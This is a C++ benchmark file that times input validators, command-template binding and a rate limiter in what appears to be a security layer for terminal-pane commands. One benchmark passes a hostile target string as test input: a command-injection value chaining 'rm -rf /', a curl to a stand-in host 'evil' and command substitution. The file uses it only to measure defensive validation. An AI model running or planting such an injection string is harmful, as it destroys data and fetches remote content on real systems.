#include "bench_common.hpp"

#include "paneguard/security/rate_limiter.hpp"
#include "paneguard/security/templates.hpp"
#include "paneguard/security/validator.hpp"

#include <string>

void run_validator_benchmark() {
  std::cout << "\n=== Validation Benchmarks ===\n";

  paneguard::bench::run_bench("validate_session_name", 20000,
                              [] { (void)paneguard::security::validate_session_name("dev-box_01"); });

  paneguard::bench::run_bench("validate_hostile_target", 20000, [] {
    (void)paneguard::security::validate_target("; rm -rf / $(curl evil) `id`");
  });

  const std::string long_command(4096, 'x');
  paneguard::bench::run_bench("validate_command_4k", 5000,
                              [&] { (void)paneguard::security::validate_command_text(long_command); });

  auto registry = paneguard::security::TemplateRegistry::builtin();
  if (!registry.ok()) {
    std::cerr << "templates: " << registry.error() << "\n";
    return;
  }
  const auto &templates = registry.value();
  const auto *send = templates.find("send-keys");
  paneguard::bench::run_bench("bind_and_revalidate", 20000, [&] {
    const auto bound = paneguard::security::bind_template(
        *send, {{"target", "%1"}, {"command", "'echo it'\\''s fine'"}});
    if (bound.ok()) {
      (void)templates.revalidate(bound.value(), *send);
    }
  });
}

void run_rate_limiter_benchmark() {
  paneguard::config::RateLimitConfig config;
  config.max_requests = 1'000'000;
  paneguard::security::RateLimiter limiter(config);

  paneguard::bench::run_bench("rate_check_single_source", 100000, [&] {
    paneguard::security::SourceIdentity source;
    source.client_address = "10.0.0.1";
    (void)limiter.check_and_record(source);
  });

  paneguard::bench::run_bench("rate_check_many_sources", 100000, [&] {
    static int i = 0;
    paneguard::security::SourceIdentity source;
    source.client_address = "10.0." + std::to_string((i / 256) % 256) + "." + std::to_string(i % 256);
    ++i;
    (void)limiter.check_and_record(source);
  });
}
